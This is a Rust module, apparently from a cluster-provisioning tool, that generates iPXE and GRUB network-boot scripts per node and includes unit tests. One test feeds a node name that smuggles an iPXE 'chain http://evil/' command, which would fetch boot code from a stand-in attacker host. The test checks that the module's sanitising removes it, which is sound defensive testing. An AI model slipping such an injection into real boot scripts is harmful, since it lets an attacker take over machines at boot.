//! Per-node boot scripts (reference 10.5): an iPXE script and a GRUB configuration for the
//! node's pending profile, or a script that leaves the network boot so the machine boots from
//! its disk. Pure: the caller supplies the profile and the base URL the client reached us at.

use std::fmt::Write as _;

use super::profile::Profile;

/// The URL of a profile's directory, e.g. `http://10.0.0.1:80/confluent-public/os/rhel9`.
pub fn profile_url(base: &str, profile: &str) -> String {
    format!("{base}/confluent-public/os/{profile}")
}

/// Keep a value on one line of a script: control characters become spaces.
fn one_line(text: &str) -> String {
    text.chars()
        .map(|c| if c.is_control() { ' ' } else { c })
        .collect()
}

/// iPXE: load the kernel with its arguments and every initramfs, then boot. Each initramfs is
/// named and listed as `initrd=<name>` so an EFI-stub kernel finds it too.
pub fn ipxe(profile: &Profile, node: &str, base: &str) -> String {
    let url = profile_url(base, &profile.name);
    let mut script = String::from("#!ipxe\n");
    let _ = writeln!(
        script,
        "echo confluent: booting {} with profile {}",
        one_line(node),
        profile.name
    );
    let mut command_line = String::new();
    for initrd in &profile.initramfs {
        let _ = write!(command_line, " initrd={initrd}");
    }
    if !profile.kernel_args.is_empty() {
        command_line.push(' ');
        command_line.push_str(&one_line(&profile.kernel_args));
    }
    let _ = writeln!(
        script,
        "kernel {url}/boot/kernel{command_line} || goto failed"
    );
    for initrd in &profile.initramfs {
        let _ = writeln!(
            script,
            "initrd --name {initrd} {url}/boot/initramfs/{initrd} || goto failed"
        );
    }
    script.push_str("boot || goto failed\n");
    script.push_str(":failed\necho confluent: network boot failed; retrying in 10 seconds\n");
    script.push_str("sleep 10\nreboot\n");
    script
}

/// iPXE for a node with nothing pending: leave iPXE so the firmware boots the next device.
pub fn ipxe_local(node: &str) -> String {
    format!(
        "#!ipxe\necho confluent: no deployment pending for {}; booting from local disk\nexit 0\n",
        one_line(node)
    )
}

/// GRUB: one menu entry loading the kernel and every initramfs over HTTP(S).
/// `host` is `address[:port]` as the client reached us; `secure` picks `https`.
pub fn grub(profile: &Profile, host: &str, secure: bool) -> String {
    let scheme = if secure { "https" } else { "http" };
    let root = format!("({scheme},{host})/confluent-public/os/{}", profile.name);
    let mut config = String::from("set timeout=0\n");
    let _ = writeln!(
        config,
        "menuentry '{}' {{",
        one_line(&profile.label).replace('\'', "")
    );
    let mut linux = format!("    linux {root}/boot/kernel");
    if !profile.kernel_args.is_empty() {
        linux.push(' ');
        linux.push_str(&one_line(&profile.kernel_args));
    }
    config.push_str(&linux);
    config.push('\n');
    if !profile.initramfs.is_empty() {
        config.push_str("    initrd");
        for initrd in &profile.initramfs {
            let _ = write!(config, " {root}/boot/initramfs/{initrd}");
        }
        config.push('\n');
    }
    config.push_str("}\n");
    config
}

/// GRUB for a node with nothing pending: return to the firmware's boot order.
pub fn grub_local(node: &str) -> String {
    format!(
        "echo 'confluent: no deployment pending for {}; booting from local disk'\nexit\n",
        one_line(node).replace('\'', "")
    )
}

/// GRUB configuration that chains to the per-MAC configuration over HTTP on `http_port` of
/// the server GRUB was loaded from; served over TFTP where GRUB looks for its `grub.cfg`.
pub fn grub_chain(http_port: u16) -> String {
    format!(
        "configfile (http,${{net_default_server}}:{http_port})/boot/by-mac/${{net_default_mac}}/grub.cfg\n"
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    fn profile() -> Profile {
        Profile {
            name: "rocky-9.4-x86_64-default".into(),
            label: "Rocky 9.4 (default)".into(),
            kernel_args: "quiet console=ttyS0\nrd.break".into(),
            initramfs: vec!["addons.cpio".into(), "distribution".into()],
        }
    }

    #[test]
    fn ipxe_script_loads_kernel_arguments_and_every_initrd() {
        let script = ipxe(&profile(), "n1", "http://10.0.0.1:8080");
        assert!(script.starts_with("#!ipxe\n"));
        assert!(script.contains(
            "kernel http://10.0.0.1:8080/confluent-public/os/rocky-9.4-x86_64-default/boot/kernel initrd=addons.cpio initrd=distribution quiet console=ttyS0 rd.break || goto failed\n"
        ));
        assert!(script.contains("initrd --name addons.cpio http://10.0.0.1:8080/confluent-public/os/rocky-9.4-x86_64-default/boot/initramfs/addons.cpio"));
        assert!(script.contains("initrd --name distribution "));
        assert!(
            script.find("addons.cpio http").unwrap() < script.find("distribution http").unwrap()
        );
        assert!(script.contains("\nboot || goto failed\n"));
    }

    #[test]
    fn grub_config_has_one_entry_with_linux_and_initrd() {
        let config = grub(&profile(), "10.0.0.1:8443", true);
        assert!(config.starts_with("set timeout=0\n"));
        assert!(config.contains("menuentry 'Rocky 9.4 (default)' {"));
        assert!(config.contains(
            "linux (https,10.0.0.1:8443)/confluent-public/os/rocky-9.4-x86_64-default/boot/kernel quiet console=ttyS0 rd.break\n"
        ));
        assert!(config.contains("initrd (https,10.0.0.1:8443)/confluent-public/os/rocky-9.4-x86_64-default/boot/initramfs/addons.cpio (https,"));
    }

    #[test]
    fn grub_chains_to_the_per_mac_configuration() {
        assert_eq!(
            grub_chain(8080),
            "configfile (http,${net_default_server}:8080)/boot/by-mac/${net_default_mac}/grub.cfg\n"
        );
    }

    #[test]
    fn nothing_pending_exits_to_local_boot() {
        assert!(ipxe_local("n1\nchain http://evil/").contains("exit 0"));
        assert!(!ipxe_local("n1\nchain http://evil/").contains("\nchain"));
        assert!(grub_local("n1").contains("\nexit\n"));
    }
}
